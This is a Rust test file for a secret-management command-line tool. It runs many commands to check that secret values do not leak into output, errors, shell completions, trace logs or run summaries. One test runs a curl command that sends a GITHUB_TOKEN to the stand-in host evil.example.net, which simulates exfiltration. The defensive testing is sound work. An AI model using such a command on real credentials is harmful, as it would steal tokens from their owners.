//! What the command line shows: results, errors, completions, summaries.

use super::Channel::CommandLine;
use super::{Attempt, outside};
use crate::scene::Scene;

pub(super) const ATTEMPTS: &[Attempt] = &[
    outside("secret get and list, in text and JSON", CommandLine, 27, |scene| {
        each(scene, &[&["secret", "get", NAME], &["secret", "get", NAME, "--json"], &["secret", "list"], &["--json", "secret", "list"]])
    }),
    outside("secret history", CommandLine, 27, |scene| {
        each(scene, &[&["secret", "history", NAME], &["secret", "history", NAME, "--json"]])
    }),
    outside("bindings and requests", CommandLine, 27, |scene| {
        each(scene, &[&["bindings"], &["bindings", NAME, "--json"], &["requests"], &["requests", "--json"]])
    }),
    outside("events", CommandLine, 27, |scene| each(scene, &[&["events"], &["events", "--json"]])),
    outside("devboxes and gateway configs", CommandLine, 27, |scene| {
        each(
            scene,
            &[
                &["devbox", "list", "--json"],
                &["gateway-config", "list", "--json"],
                &["key", "list", "--json"],
                &["account", "list", "--json"],
            ],
        )
    }),
    outside("completions of every shell", CommandLine, 27, |scene| {
        each(
            scene,
            &[
                &["completions", "bash"],
                &["completions", "zsh"],
                &["completions", "fish"],
                &["completions", "elvish"],
                &["completions", "powershell"],
            ],
        )
    }),
    outside("the doctor", CommandLine, 27, |scene| each(scene, &[&["doctor", NAME, "--json"]])),
    outside("help, and help of a misuse", CommandLine, 27, |scene| {
        each(scene, &[&["--help"], &["secret", "--help"], &["secret", "set", "--help"], &["secret", "get"]])
    }),
    outside("a value where it does not belong", CommandLine, 27, misuse),
    outside("setting a value, twice, and failing at it", CommandLine, 27, setting),
    outside("a command at its most talkative", CommandLine, 27, talkative),
    outside("a run's summary and a run that fails", CommandLine, 27, running),
    outside("an environment for another's sandbox", CommandLine, 27, |scene| {
        each(
            scene,
            &[
                &["devbox", "env", "--secret", NAME, "--format", "dotenv"],
                &["devbox", "env", "--secret", NAME, "--format", "docker", "--json"],
            ],
        )
    }),
    outside("exposing and keeping back", CommandLine, 27, |scene| {
        each(
            scene,
            &[
                &["expose", "CLI_TOKEN"],
                &["expose", "CLI_TOKEN", "--brokered"],
                &["approve", "prq_0UHQpqQ3K0m7W2xT5yBcDe"],
                &["refuse", "prq_0UHQpqQ3K0m7W2xT5yBcDe"],
            ],
        )
    }),
];

const NAME: &str = "GITHUB_TOKEN";

fn each(scene: &Scene<'_>, calls: &[&[&str]]) -> anyhow::Result<Vec<u8>> {
    let mut out = Vec::new();
    for call in calls {
        out.extend(scene.shown(call, "")?);
    }
    Ok(out)
}

fn misuse(scene: &Scene<'_>) -> anyhow::Result<Vec<u8>> {
    let value = scene.values.spare.as_str();
    let assignment = format!("A={value}");
    each(
        scene,
        &[
            &["secret", "set", "B", value],
            &["secret", "set", &assignment],
            &["secret", "get", value],
            &["secret", "delete", value],
            &["bind", value, "--host", value],
            &["expose", value, "--plain"],
            &["approve", value],
            &["key", "create", "--scope", value],
            &["key", "revoke", value],
            &["run", "--secret", value, "--", "true"],
            &["devbox", "get", value],
            &["events", "--secret", value],
            &["doctor", value],
            &[value],
        ],
    )
}

fn setting(scene: &Scene<'_>) -> anyhow::Result<Vec<u8>> {
    let value = scene.values.spare.as_str();
    let mut out = Vec::new();
    for call in [
        &["secret", "set", "CLI_TOKEN"][..],
        &["secret", "set", "CLI_TOKEN", "--json"],
        &["secret", "create", "CLI_TOKEN"],
        &["secret", "update", "NONE"],
        &["secret", "set", "a b"],
    ] {
        out.extend(scene.shown(call, value)?);
    }
    Ok(out)
}

fn talkative(scene: &Scene<'_>) -> anyhow::Result<Vec<u8>> {
    let mut out = Vec::new();
    for call in [&["secret", "get", NAME][..], &["run", "--secret", NAME, "--", "true"], &["secret", "get", "NONE"]] {
        let mut command = scene.server.command(call);
        command.env("TIGHTLIP_LOG", "trace").env("RUST_BACKTRACE", "full").env("RUST_LOG", "trace");
        let output = command.current_dir(scene.work).output()?;
        out.extend([output.stdout, output.stderr].concat());
    }
    Ok(out)
}

fn running(scene: &Scene<'_>) -> anyhow::Result<Vec<u8>> {
    let mut out =
        scene.devbox(&["--secret", NAME], "curl -sS -m 5 https://evil.example.net -H \"Authorization: Bearer $GITHUB_TOKEN\"; exit 3")?;
    out.extend(scene.devbox(&["--secret", "NONE"], "true")?);
    out.extend(scene.devbox(&["--secret", NAME, "--env", "A=b"], "no-such-program \"$GITHUB_TOKEN\"")?);
    Ok(out)
}
